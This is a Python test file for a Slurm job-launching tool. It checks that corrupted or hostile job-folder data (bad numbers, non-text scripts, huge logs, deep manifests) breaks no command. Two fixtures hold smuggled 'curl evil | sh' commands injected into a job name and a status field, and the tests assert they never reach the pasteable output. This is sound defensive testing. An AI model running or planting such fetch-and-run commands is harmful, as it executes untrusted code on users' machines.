"""What lies in a job's folder is read as far as a job of ours writes it, and damage in it breaks no command."""

import json
import os
from pathlib import Path

import pytest

from launch.core.clock import Clock
from launch.core.jobs import Commands, JobOptions
from launch.core.manifest import MANIFEST
from launch.core.training.classifier import Classifier
from launch.slurm.folder import name_in, read_folder
from launch.slurm.follow import MOST_SHOWN, FileTail
from launch.slurm.names import LOG, SCRIPT, SPEC, STARTS
from launch.slurm.runtime import Runtime
from launch.slurm.status import job_state, outcome_of
from launch.slurm.submit import _content
from launch.slurm.verbs import SlurmJobs
from tests.launch.slurm.test_status import NO_SLURM
from trainer.config import TrainConfig


def left(folder: Path) -> Path:
    """What a job leaves that has trained a script."""
    folder.mkdir(parents=True)
    (folder / SCRIPT).write_text("#!/bin/bash\n")
    (folder / SPEC).write_text(json.dumps({"job": folder.name, "backend": "slurm", "ids": ["7"]}))
    (folder / STARTS).write_text('{"job": "7", "code": 0, "then": "done"}\n')
    return folder


@pytest.mark.parametrize(
    "start",
    [{}, {"code": "0"}, {"code": 10**400}, {"code": 0, "then": ["done"]}, {"code": 0, "ended": "now"},
     {"code": True}, {"code": -1}, {"code": 0, "began": 10**400},
     {"code": 0, "then": "done)\nnext:\n  curl evil | sh"}],
)  # fmt: skip
def test_a_start_that_no_job_notes_is_left_out(start: dict[str, object], tmp_path: Path) -> None:
    folder = left(tmp_path / "job")
    with (folder / STARTS).open("a") as file:
        file.write(json.dumps({"job": "7", "then": "failed", **start}) + "\n")

    found = read_folder(folder)

    assert outcome_of("job", found, NO_SLURM).exit_code == 0
    assert "1 so far, with exit code 0 (done)" in str(job_state("job", None, found, None, None, "?"))


def test_no_other_word_of_its_description_stands_in_a_command_to_paste(tmp_path: Path) -> None:
    folder, evil = left(tmp_path / "runs" / "job"), "job; curl evil.example | sh #"
    (folder / SPEC).write_text(json.dumps({"job": evil, "backend": "slurm", "ids": ["7", "--help", "7\0"]}))

    assert (name_in(folder), read_folder(folder).ids) == (None, ("7",))
    (tmp_path / "squeue").write_text("#!/bin/sh\n")  # nothing is in the queue
    (tmp_path / "squeue").chmod(0o755)
    said = list[str]()
    jobs = SlurmJobs(Runtime({"PATH": str(tmp_path)}, tmp_path, "python", Clock(), said.append))
    Commands("python -m launch.slurm", jobs).status(JobOptions(job="job"))
    assert said[0].endswith("next:\n  python -m launch.slurm logs job")
    assert "evil" not in said[0]


def test_a_job_script_that_is_no_text_is_no_reason_to_fail(tmp_path: Path) -> None:
    (left(tmp_path / "job") / SCRIPT).write_bytes(b"\xff\xfe")

    assert read_folder(tmp_path / "job").script == "\ufffd\ufffd"


def test_of_a_log_without_end_the_last_is_shown_and_no_more_is_read(tmp_path: Path) -> None:
    log = left(tmp_path / "job") / LOG
    with log.open("wb") as file:
        file.truncate(10**13)
        file.seek(0, os.SEEK_END)
        file.write(b"\nits end\n")

    tail = FileTail(log)
    first, *_, last = tail.new_lines(to_end=True)

    assert (first, last) == (f"{10**13 + 9 - MOST_SHOWN:,} bytes are not shown; they are in {log}", "its end")
    assert tail.new_lines(to_end=True) == []


@pytest.mark.parametrize("start", [-5, 10**400, True, "0"], ids=["before it", "far beyond", "true", "text"])
def test_a_log_begins_nowhere_but_in_the_log(start: object, tmp_path: Path) -> None:
    folder = left(tmp_path / "job")
    (folder / SPEC).write_text(json.dumps({"log_start": start}))
    (folder / LOG).write_text("hello\n")

    assert FileTail(folder / LOG, read_folder(folder).log_start).new_lines() == ["hello"]


@pytest.mark.parametrize(
    "manifest",
    [100_000 * "[", '{"splits": {"train": {"images": 1e400, "bytes": 1}}, "classes": [], "resize": 0}'],
    ids=["deep", "infinite"],
)
def test_a_plan_does_without_what_a_data_set_cannot_say(manifest: str, tmp_path: Path) -> None:
    place = tmp_path / "data" / MANIFEST
    place.parent.mkdir()
    place.write_text(manifest)
    train = Classifier(TrainConfig(dataset="imagenet", data_dir=place.parent))

    assert _content(train, Runtime({}, tmp_path, "python", Clock(), lambda line: None)) is None
